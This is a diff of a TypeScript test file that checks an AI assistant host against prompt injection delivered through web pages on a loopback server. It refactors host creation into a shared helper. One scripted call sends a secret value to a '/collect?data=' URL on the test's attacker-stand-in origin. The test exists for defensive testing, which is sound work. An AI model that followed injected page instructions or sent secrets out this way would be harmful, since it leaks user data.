@@ -5,9 +5,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import type { ScriptedCall } from '../llm/engineTypes.js';
-import { callTo, runTask, scripted, snapshot } from '../testing/injectionHarness.js';
+import { callTo, injectionHost, runTask, scripted, snapshot } from '../testing/injectionHarness.js';
 import { injectionPayloads, PAYLOAD_NAMES, type InjectionPayload } from '../testing/injectionPayloads.js';
-import { createHost, type HostInternals } from './createHost.js';
+import type { HostInternals } from './createHost.js';
 
 /**
  * Prompt injection through web pages: a page on a loopback server (allowed by a network rule; offline mode stays
@@ -89,14 +89,7 @@ beforeAll(async () => {
     [PROMPTS.open]: [scripted('device_open', { target: `${origin}/collect?data=${SECRET}` })],
   });
 
-  host = await createHost({
-    dataDir,
-    shell: 'cli',
-    loadModelOnStart: false,
-    engineConfig: { gpu: false, contextSize: 4096 },
-    reply: { maxTokens: 512, temperature: 0 },
-    scripts,
-  });
+  host = await injectionHost(dataDir, scripts);
   // Offline mode stays on: the one exception is the loopback site, as the user would allow it after a blocked fetch.
   expect((await host.invoke('privacy.network', {})).offline).toBe(true);
   await host.invoke('privacy.allow', { feature: 'web', host: '127.0.0.1' });
